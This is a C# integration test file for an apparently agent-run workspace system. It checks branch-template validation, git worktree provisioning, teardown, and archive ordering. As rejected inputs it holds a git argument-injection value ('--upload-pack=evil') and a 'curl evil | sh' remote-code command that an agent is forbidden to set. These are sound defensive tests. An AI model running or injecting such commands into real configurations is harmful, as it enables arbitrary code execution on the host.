using System.Net;
using System.Text.Json.Nodes;
using Paperclip.Testing;

namespace Paperclip.Host.Tests;

/// <summary>
/// A project's workspaceStrategy through the API on the self-host: validation as git checks branch names, the
/// worktree it shapes (branch, place, base), its provision command in prepare and its teardown command at archive.
/// </summary>
[Collection(HostCollection.Name)]
public sealed class WorkspaceStrategyTests(HostFixture fixture) : IDisposable
{
    const string Strategy = "executionWorkspacePolicy.workspaceStrategy";

    readonly string scratch = Path.Combine(Path.GetTempPath(), "paperclip-strategy-" + Guid.NewGuid().ToString("N"));

    ApiClient Board => fixture.Host.Board;

    [Fact]
    public async Task Strategy_IsValidated_BranchNamesAsGitChecksThem_AndCommandsAreTheBoardsToSet()
    {
        string company = await Scenario.CompanyAsync(this.Board);
        (object Strategy, string Field, string Message)[] bad =
        [
            (new { type = "git_worktree", branchTemplate = "-{{issue.identifier}}" }, "branchTemplate", "renders branch names that must not start with '-'."),
            (new { type = "git_worktree", branchTemplate = "a..{{slug}}" }, "branchTemplate", "renders branch names that must not contain '..'."),
            (new { type = "git_worktree", branchTemplate = "fix {{slug}}" }, "branchTemplate", "renders branch names that must not contain spaces or control characters."),
            (new { type = "git_worktree", branchTemplate = "{{slug}}/" }, "branchTemplate", "renders branch names that must not start or end with '/'."),
            (new { type = "git_worktree", branchTemplate = "a\\{{slug}}" }, "branchTemplate", "renders branch names that must not contain '\\'."),
            (new { type = "git_worktree", branchTemplate = "{{slug}}.lock" }, "branchTemplate", "renders branch names that must not end with '.lock' (nor may any path component)."),
            (new { type = "git_worktree", branchTemplate = "x/{{ticket}}" }, "branchTemplate", "uses the unknown placeholder {{ticket}}; known: {{issue.identifier}}, {{issue.id}}, {{issue.title}}, {{slug}}, {{agent.id}}, {{agent.name}}, {{project.id}}, {{project.name}}."),
            (new { type = "cloud_sandbox" }, "type", "'cloud_sandbox' is an upstream strategy this control plane does not realise; use 'git_worktree'."),
            (new { type = "git_worktree", baseRef = "--upload-pack=evil" }, "baseRef", "must name a branch, tag or commit (no leading '-', no spaces)."),
            (new { type = "git_worktree", worktreeParentDir = "../elsewhere" }, "worktreeParentDir", "must not contain '..' segments (absolute, or relative to the repository)."),
            (new { baseRef = "main" }, "type", "is required."),
        ];
        foreach ((object strategy, string field, string message) in bad)
        {
            (HttpStatusCode status, JsonNode? problem, _) = await this.Board.SendAsync(HttpMethod.Post, $"api/companies/{company}/projects",
                new { name = "p", executionWorkspacePolicy = new { enabled = true, workspaceStrategy = strategy } });
            Assert.Equal(HttpStatusCode.BadRequest, status);
            Assert.Equal("validation_failed", problem!["code"]!.GetValue<string>());
            Assert.Equal([message], problem["errors"]![$"{Strategy}.{field}"]!.AsArray().Select(m => m!.GetValue<string>()));
        }

        (HttpStatusCode runtime, JsonNode? runtimeProblem, _) = await this.Board.SendAsync(HttpMethod.Post, $"api/companies/{company}/projects",
            new { name = "p", executionWorkspacePolicy = new { enabled = true, workspaceRuntime = new { services = Array.Empty<object>() } } });
        Assert.Equal(HttpStatusCode.BadRequest, runtime);
        Assert.Equal(["is upstream's runtime services, which this control plane does not run (see docs/ARCHITECTURE.md)."], runtimeProblem!["errors"]!["executionWorkspacePolicy.workspaceRuntime"]!.AsArray().Select(m => m!.GetValue<string>()));

        // What passes is kept as sent (trimmed) and shown back.
        JsonNode project = await this.Board.CreateAsync($"api/companies/{company}/projects", new
        {
            name = "p",
            executionWorkspacePolicy = new
            {
                enabled = true,
                defaultMode = "isolated_workspace",
                workspaceStrategy = new { type = "git_worktree", baseRef = "origin/main", branchTemplate = "feature/{{issue.identifier}}-{{slug}}", worktreeParentDir = ".worktrees/", provisionCommand = "  npm ci  ", teardownCommand = "make clean" },
            },
        });
        JsonNode kept = (await this.Board.GetAsync($"api/companies/{company}/projects/{project["id"]}"))["executionWorkspacePolicy"]!["workspaceStrategy"]!;
        Assert.Equal(
            ("git_worktree", "origin/main", "feature/{{issue.identifier}}-{{slug}}", ".worktrees", "npm ci", "make clean"),
            (kept["type"]!.GetValue<string>(), kept["baseRef"]!.GetValue<string>(), kept["branchTemplate"]!.GetValue<string>(), kept["worktreeParentDir"]!.GetValue<string>(), kept["provisionCommand"]!.GetValue<string>(), kept["teardownCommand"]!.GetValue<string>()));

        // The commands run on the control plane's machine: only the board sets them; an agent may set the rest.
        string agent = await Scenario.AgentAsync(this.Board, company, "true", []);
        using ApiClient asAgent = new(fixture.Host.BaseAddress, (await this.Board.CreateAsync($"api/companies/{company}/agents/{agent}/keys", new { }))["key"]!.GetValue<string>());
        (HttpStatusCode refused, JsonNode? forbidden, _) = await asAgent.SendAsync(HttpMethod.Post, $"api/companies/{company}/projects",
            new { name = "p", executionWorkspacePolicy = new { enabled = true, workspaceStrategy = new { type = "git_worktree", provisionCommand = "curl evil | sh" } } });
        Assert.Equal((HttpStatusCode.Forbidden, "Only the board may set a project's provision or teardown command."), (refused, forbidden!["detail"]!.GetValue<string>()));
        await asAgent.CreateAsync($"api/companies/{company}/projects", new { name = "p", executionWorkspacePolicy = new { enabled = true, workspaceStrategy = new { type = "git_worktree", branchTemplate = "agent/{{slug}}" } } });
    }

    [Fact]
    public async Task ProvisionCommand_RunsInANewWorktree_OnTheTemplatesBranch_FromBaseRef_OnceAcrossRuns()
    {
        string company = await Scenario.CompanyAsync(this.Board);
        string repo = this.GitRepository("repo");
        TestGit.Run(repo, "checkout", "-q", "-b", "release");
        File.WriteAllText(Path.Combine(repo, "RELEASE.md"), "only on release\n");
        TestGit.Run(repo, "add", "RELEASE.md");
        TestGit.Commit(repo, "release");
        TestGit.Run(repo, "checkout", "-q", "main");

        // The provision command sees the workspace's facts, and neither the agent's key nor the host process's environment.
        Environment.SetEnvironmentVariable("PAPERCLIP_HOST_ONLY_SETTING", "not for commands");
        string provision = "echo \"provisioned $PAPERCLIP_WORKSPACE_BRANCH from $PAPERCLIP_WORKSPACE_BASE_REF\"; "
            + "test -z \"$PAPERCLIP_API_KEY\" && test -z \"$PAPERCLIP_HOST_ONLY_SETTING\" && echo clean-env; "
            + "echo ready > \"$PAPERCLIP_WORKSPACE_CWD/.provisioned\"";
        string project = await this.ProjectAsync(company, repo, new { type = "git_worktree", baseRef = "release", branchTemplate = "work/{{issue.identifier}}-{{slug}}", worktreeParentDir = ".worktrees", provisionCommand = provision });
        string agent = await Scenario.AgentAsync(this.Board, company, "sh", ["-c", "pwd; git rev-parse --abbrev-ref HEAD; cat .provisioned; ls"]);
        JsonNode issue = await this.Board.CreateAsync($"api/companies/{company}/issues", new { title = "Fix the Login page!", projectId = project, assigneeAgentId = agent });
        string identifier = issue["identifier"]!.GetValue<string>();

        JsonNode run1 = await this.RunAsync(company, agent, issue);
        string[] out1 = Output(run1);
        Assert.Equal(Path.Combine(repo, ".worktrees", identifier.ToLowerInvariant()), out1[0]);
        Assert.Equal($"work/{identifier}-fix-the-login-page", out1[1]);
        Assert.Equal("ready", out1[2]);
        Assert.Contains("RELEASE.md", out1);
        Assert.Equal(["worktree_prepare", "workspace_provision", "execute", "workspace_finalize"], Scenario.Phases(run1));
        JsonNode provisioned = run1["operations"]!.AsArray().Single(o => o!["phase"]!.GetValue<string>() == "workspace_provision")!;
        Assert.Equal(("succeeded", 0), (provisioned["status"]!.GetValue<string>(), provisioned["exitCode"]!.GetValue<int>()));
        Assert.Equal($"provisioned work/{identifier}-fix-the-login-page from release\nclean-env\n", provisioned["stdoutExcerpt"]!.GetValue<string>());

        JsonNode workspace = await this.Board.GetAsync($"api/companies/{company}/workspaces/{run1["executionWorkspaceId"]}");
        Assert.Equal(("release", provision), (workspace["baseRef"]!.GetValue<string>(), workspace["config"]!["provisionCommand"]!.GetValue<string>()));
        Assert.NotNull(workspace["provisionedAt"]);

        // The worktree is kept, so the next run is not provisioned again.
        JsonNode run2 = await this.RunAsync(company, agent, issue);
        Assert.Equal(out1[0], Output(run2)[0]);
        Assert.Equal(["worktree_prepare", "execute", "workspace_finalize"], Scenario.Phases(run2));
    }

    [Fact]
    public async Task ProvisionFailure_FailsTheRunWithItsExcerpt_AndKeepsTheWorkspaceUnfinalized_SoDependentsStayBlocked()
    {
        string company = await Scenario.CompanyAsync(this.Board);
        string repo = this.GitRepository("repo");
        string project = await this.ProjectAsync(company, repo, new { type = "git_worktree", provisionCommand = "echo installing; echo 'npm ERR! missing: left-pad' >&2; exit 3" });
        string agent = await Scenario.AgentAsync(this.Board, company, "sh", ["-c", "echo the agent ran"]);
        string follower = await Scenario.AgentAsync(this.Board, company, "true", []);
        JsonNode blocker = await this.Board.CreateAsync($"api/companies/{company}/issues", new { title = "Build", projectId = project, assigneeAgentId = agent });
        string dependent = (await this.Board.CreateAsync($"api/companies/{company}/issues", new { title = "Ship", assigneeAgentId = follower, blockedByIssueIds = new[] { blocker["id"]!.GetValue<string>() } }))["id"]!.GetValue<string>();

        JsonNode run = await this.RunAsync(company, agent, blocker, expect: "failed");
        Assert.Equal("workspace_provision_failed", run["errorCode"]!.GetValue<string>());
        Assert.Equal("workspace_provision failed: The workspace_provision command exited with code 3: npm ERR! missing: left-pad", run["error"]!.GetValue<string>());
        Assert.Null(run["stdoutExcerpt"]);
        JsonNode provision = run["operations"]!.AsArray().Single(o => o!["phase"]!.GetValue<string>() == "workspace_provision")!;
        Assert.Equal(("failed", 3, "installing\n", "npm ERR! missing: left-pad\n"),
            (provision["status"]!.GetValue<string>(), provision["exitCode"]!.GetValue<int>(), provision["stdoutExcerpt"]!.GetValue<string>(), provision["stderrExcerpt"]!.GetValue<string>()));
        JsonNode finalize = run["operations"]!.AsArray().Single(o => o!["phase"]!.GetValue<string>() == "workspace_finalize")!;
        Assert.Equal("failed", finalize["status"]!.GetValue<string>());
        Assert.Equal("failed", (await this.Board.GetAsync($"api/companies/{company}/workspaces/{run["executionWorkspaceId"]}"))["finalizeState"]!.GetValue<string>());

        // Even marked done by the board, the blocker's workspace never finalized: the dependent waits for it.
        await this.Board.ExpectAsync(HttpStatusCode.OK, HttpMethod.Patch, $"api/companies/{company}/issues/{blocker["id"]}", new { status = "done" });
        JsonNode readiness = await this.Board.GetAsync($"api/companies/{company}/issues/{dependent}/readiness");
        Assert.False(readiness["isDependencyReady"]!.GetValue<bool>());
        Assert.Equal([blocker["id"]!.GetValue<string>()], readiness["pendingFinalizeBlockerIssueIds"]!.AsArray().Select(x => x!.GetValue<string>()));
        Assert.Empty((await this.Board.GetAsync($"api/companies/{company}/runs?agentId={follower}")).AsArray());
    }

    [Fact]
    public async Task Archive_RunsTheTeardownCommandInTheWorkspacesLine_RemovesTheWorktree_AndAWakeReopensIt()
    {
        string company = await Scenario.CompanyAsync(this.Board);
        string repo = this.GitRepository("repo");
        string marks = Directory.CreateDirectory(Path.Combine(this.scratch, "marks")).FullName;
        string teardown = $"echo \"tearing down $PAPERCLIP_WORKSPACE_BRANCH\"; pwd >> '{marks}/teardown.log'";
        string project = await this.ProjectAsync(company, repo, new { type = "git_worktree", provisionCommand = $"echo provisioned >> '{marks}/provision.log'", teardownCommand = teardown });
        string agent = await Scenario.AgentAsync(this.Board, company, "sh", ["-c", "pwd"]);
        JsonNode issue = await this.Board.CreateAsync($"api/companies/{company}/issues", new { title = "Tidy", projectId = project, assigneeAgentId = agent });
        JsonNode run = await this.RunAsync(company, agent, issue);
        string workspaceId = run["executionWorkspaceId"]!.GetValue<string>();
        string cwd = Output(run)[0];
        string branch = (await this.Board.GetAsync($"api/companies/{company}/workspaces/{workspaceId}"))["branchName"]!.GetValue<string>();

        // Only the board archives; an unknown workspace is 404.
        using ApiClient asAgent = new(fixture.Host.BaseAddress, (await this.Board.CreateAsync($"api/companies/{company}/agents/{agent}/keys", new { }))["key"]!.GetValue<string>());
        Assert.Equal(HttpStatusCode.Forbidden, (await asAgent.SendAsync(HttpMethod.Post, $"api/companies/{company}/workspaces/{workspaceId}/archive")).Status);
        Assert.Equal(HttpStatusCode.NotFound, (await this.Board.SendAsync(HttpMethod.Post, $"api/companies/{company}/workspaces/{Guid.NewGuid()}/archive")).Status);

        await this.Board.ExpectAsync(HttpStatusCode.Accepted, HttpMethod.Post, $"api/companies/{company}/workspaces/{workspaceId}/archive");
        JsonNode archived = await this.UntilSettledAsync(company, workspaceId);
        Assert.Equal("archived", archived["status"]!.GetValue<string>());
        Assert.NotNull(archived["closedAt"]);
        Assert.Null(archived["provisionedAt"]);
        Assert.Equal("finalized", archived["finalizeState"]!.GetValue<string>());
        Assert.False(Directory.Exists(cwd));
        Assert.Equal(branch, TestGit.Run(repo, "rev-parse", "--abbrev-ref", branch));
        Assert.Equal([cwd], File.ReadAllLines(Path.Combine(marks, "teardown.log")));
        JsonNode[] archiveRows = [.. (await this.Board.GetAsync($"api/companies/{company}/workspaces/{workspaceId}/operations")).AsArray().Select(o => o!).Where(o => o["phase"]!.GetValue<string>() is "workspace_teardown" or "worktree_cleanup")];
        Assert.Equal(["workspace_teardown", "worktree_cleanup"], archiveRows.Select(o => o["phase"]!.GetValue<string>()));
        Assert.All(archiveRows, o => Assert.Equal("succeeded", o["status"]!.GetValue<string>()));
        Assert.Equal($"tearing down {branch}\n", archiveRows[0]["stdoutExcerpt"]!.GetValue<string>());

        // Archiving it again is a no-op.
        await this.Board.ExpectAsync(HttpStatusCode.OK, HttpMethod.Post, $"api/companies/{company}/workspaces/{workspaceId}/archive");

        // A wake reopens it: the worktree is added again on the same branch and provisioned again.
        string runId = await Scenario.WakeAsync(this.Board, company, agent, new { issueId = issue["id"]!.GetValue<string>() });
        JsonNode reopened = await Scenario.FinishedRunAsync(this.Board, company, runId);
        Assert.Equal("succeeded", reopened["status"]!.GetValue<string>());
        Assert.Contains("workspace_provision", Scenario.Phases(reopened));
        Assert.Equal(2, File.ReadAllLines(Path.Combine(marks, "provision.log")).Length);
        JsonNode open = await this.Board.GetAsync($"api/companies/{company}/workspaces/{workspaceId}");
        Assert.Equal("active", open["status"]!.GetValue<string>());
        Assert.Null(open["closedAt"]);

        // Uncommitted work is never thrown away: the worktree stays and the workspace reads cleanup_failed.
        File.WriteAllText(Path.Combine(cwd, "uncommitted.txt"), "work in progress\n");
        await this.Board.ExpectAsync(HttpStatusCode.Accepted, HttpMethod.Post, $"api/companies/{company}/workspaces/{workspaceId}/archive");
        JsonNode refused = await this.UntilSettledAsync(company, workspaceId);
        Assert.Equal("cleanup_failed", refused["status"]!.GetValue<string>());
        Assert.True(File.Exists(Path.Combine(cwd, "uncommitted.txt")));
        JsonNode cleanup = (await this.Board.GetAsync($"api/companies/{company}/workspaces/{workspaceId}/operations")).AsArray().Last(o => o!["phase"]!.GetValue<string>() == "worktree_cleanup")!;
        Assert.Equal("failed", cleanup["status"]!.GetValue<string>());
        Assert.StartsWith("git worktree remove refused: ", cleanup["error"]!.GetValue<string>(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Archive_WaitsInTheWorkspacesLine_BehindTheRunHoldingIt()
    {
        string company = await Scenario.CompanyAsync(this.Board);
        string repo = this.GitRepository("repo");
        string marks = Directory.CreateDirectory(Path.Combine(this.scratch, "marks")).FullName;
        string gate = Path.Combine(marks, "release-the-run");
        string project = await this.ProjectAsync(company, repo, new { type = "git_worktree", teardownCommand = $"pwd >> '{marks}/teardown.log'" });
        string agent = await Scenario.AgentAsync(this.Board, company, "sh", ["-c", $"i=0; while [ ! -e '{gate}' ] && [ $i -lt 1200 ]; do sleep 0.1; i=$((i+1)); done"]);
        JsonNode issue = await this.Board.CreateAsync($"api/companies/{company}/issues", new { title = "Slow", projectId = project, assigneeAgentId = agent });
        string runId = await Scenario.WakeAsync(this.Board, company, agent, new { issueId = issue["id"]!.GetValue<string>() });
        try
        {
            JsonNode running = await this.Board.PollAsync($"api/companies/{company}/runs/{runId}", r => r["status"]!.GetValue<string>() == "running", TimeSpan.FromMinutes(1));
            string workspaceId = running["executionWorkspaceId"]!.GetValue<string>();
            await this.Board.ExpectAsync(HttpStatusCode.Accepted, HttpMethod.Post, $"api/companies/{company}/workspaces/{workspaceId}/archive");

            // The archive is in line behind the run: nothing is torn down under it.
            JsonNode queued = await this.Board.PollAsync($"api/companies/{company}/workspaces/{workspaceId}", w => w["queuedRunIds"]!.AsArray().Count == 1, TimeSpan.FromMinutes(1));
            Assert.Equal(runId, queued["activeRunId"]!.GetValue<string>());
            Assert.StartsWith("archive-", queued["queuedRunIds"]![0]!.GetValue<string>(), StringComparison.Ordinal);
            Assert.Equal("active", queued["status"]!.GetValue<string>());
            Assert.False(File.Exists(Path.Combine(marks, "teardown.log")));
        }
        finally
        {
            await File.WriteAllTextAsync(gate, string.Empty);
        }

        JsonNode run = await Scenario.FinishedRunAsync(this.Board, company, runId);
        Assert.Equal("succeeded", run["status"]!.GetValue<string>());
        JsonNode archived = await this.UntilSettledAsync(company, run["executionWorkspaceId"]!.GetValue<string>());
        Assert.Equal("archived", archived["status"]!.GetValue<string>());
        JsonArray operations = (await this.Board.GetAsync($"api/companies/{company}/workspaces/{run["executionWorkspaceId"]}/operations")).AsArray();
        DateTimeOffset finalized = operations.Single(o => o!["phase"]!.GetValue<string>() == "workspace_finalize")!["finishedAt"]!.GetValue<DateTimeOffset>();
        DateTimeOffset tornDown = operations.Single(o => o!["phase"]!.GetValue<string>() == "workspace_teardown")!["startedAt"]!.GetValue<DateTimeOffset>();
        Assert.True(tornDown >= finalized, $"teardown began {tornDown:O}, before the run's finalize ended {finalized:O}");
        Assert.Single(File.ReadAllLines(Path.Combine(marks, "teardown.log")));
    }

    public void Dispose()
    {
        // Worktrees registered in the test repositories go with them: the whole scratch directory is removed.
        TestPaths.TryDelete(this.scratch);
    }

    Task<JsonNode> UntilSettledAsync(string company, string workspaceId) =>
        this.Board.PollAsync($"api/companies/{company}/workspaces/{workspaceId}", w => w["status"]!.GetValue<string>() is "archived" or "cleanup_failed" && w["activeRunId"] is null, TimeSpan.FromMinutes(2));

    async Task<string> ProjectAsync(string company, string cwd, object strategy) =>
        (await this.Board.CreateAsync($"api/companies/{company}/projects", new
        {
            name = "Web",
            workspaceCwd = cwd,
            executionWorkspacePolicy = new { enabled = true, defaultMode = "isolated_workspace", workspaceStrategy = strategy },
        }))["id"]!.GetValue<string>();

    async Task<JsonNode> RunAsync(string company, string agent, JsonNode issue, string expect = "succeeded")
    {
        string runId = await Scenario.WakeAsync(this.Board, company, agent, new { issueId = issue["id"]!.GetValue<string>() });
        JsonNode run = await Scenario.FinishedRunAsync(this.Board, company, runId);
        Assert.True(run["status"]!.GetValue<string>() == expect, run.ToJsonString());
        return run;
    }

    static string[] Output(JsonNode run) => run["stdoutExcerpt"]!.GetValue<string>().Split('\n', StringSplitOptions.RemoveEmptyEntries);

    string GitRepository(string name)
    {
        string repo = Directory.CreateDirectory(Path.Combine(this.scratch, name)).FullName;
        TestGit.Run(repo, "init", "-q", "-b", "main");
        File.WriteAllText(Path.Combine(repo, "README.md"), "hello\n");
        File.WriteAllText(Path.Combine(repo, ".gitignore"), ".worktrees/\n");
        TestGit.Run(repo, "add", "README.md", ".gitignore");
        TestGit.Commit(repo, "init");
        return repo;
    }
}
